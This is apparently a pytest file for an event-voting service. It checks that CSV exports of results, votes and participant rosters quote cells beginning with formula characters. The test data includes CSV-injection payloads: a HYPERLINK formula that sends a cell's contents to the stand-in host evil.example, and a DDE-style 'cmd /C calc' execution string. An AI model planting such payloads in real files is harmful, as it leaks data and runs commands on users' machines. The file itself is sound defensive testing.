"""Exported CSV tables never hand a spreadsheet a formula: cells that start like one are quoted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
from asgi_lifespan import LifespanManager

from api.app import create_app
from bridge.event.votes import Decision, Record
from bridge.reports.tables import FORMULA_LEAD, results_csv, spreadsheet_safe, votes_csv
from tests.conftest import service_settings

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_formula_lead_is_quoted_and_other_cells_kept() -> None:
    row: dict[str, object] = {f"c{i}": value for i, value in enumerate(FORMULAS)}
    row.update({"plain": "Infrastructure first", "rssi": -61, "empty": "", "count": 3})
    safe = spreadsheet_safe(row)
    for i, value in enumerate(FORMULAS):
        assert safe[f"c{i}"] == "'" + value
    assert safe["plain"] == "Infrastructure first"
    assert safe["rssi"] == -61  # numbers are numbers, not text a spreadsheet evaluates
    assert safe["empty"] == ""
    assert safe["count"] == 3
    assert set(FORMULA_LEAD) == {"=", "+", "-", "@", "\t", "\r"}


def test_results_and_votes_csv_quote_formula_labels() -> None:
    doc = {
        "round": "q1",
        "theme": "=1+1",
        "attempt": 1,
        "title": "@evil",
        "question": {
            "kind": "single",
            "options": [
                {"key": "A", "label": FORMULAS[0]},
                {"key": "B", "label": "Harbour"},
            ],
        },
        "counts": {"A": 2, "B": 1},
        "percent": {"A": 66.7, "B": 33.3},
        "voters": 3,
        "policy": "last",
        "status": "closed",
    }
    rows = _rows(results_csv([doc]))
    assert [r["label"] for r in rows] == ["'" + FORMULAS[0], "Harbour"]
    assert rows[0]["theme"] == "'=1+1"
    assert rows[0]["title"] == "'@evil"
    assert rows[0]["count"] == "2"

    rec = Record(7, 1764700000.0, "=rx1", "428071B3", "A", Decision.COUNTED, "q1", "A")
    rec.detail = "-bad"
    rec.rssi = -70
    (row,) = _rows(votes_csv([rec]))
    assert row["receiver"] == "'=rx1"
    assert row["detail"] == "'-bad"
    assert row["rssi"] == "-70"
    assert row["handset"] == "428071B3"


async def test_participants_csv_quotes_formula_names(tmp_path: Path) -> None:
    app = create_app(service_settings(tmp_path))
    roster = (
        "id,name,segment,table,seat,organisation,handset\n"
        'p1,"=HYPERLINK(""http://evil.example"",""x"")",business,T1,1,+Org,\n'
        "p2,Anna Berg,politics,T1,2,Vestegn,\n"
    )
    async with (
        LifespanManager(app),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as http,
    ):
        r = await http.put(
            "/api/v1/participants", content=roster, headers={"content-type": "text/csv"}
        )
        assert r.status_code == 200, r.text
        # The roster itself keeps the names as given; only the exported table is quoted.
        assert r.json()[0]["name"] == '=HYPERLINK("http://evil.example","x")'
        rows = _rows((await http.get("/api/v1/participants.csv")).text)
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows[0]["organisation"] == "'+Org"
    assert rows[1]["name"] == "Anna Berg"
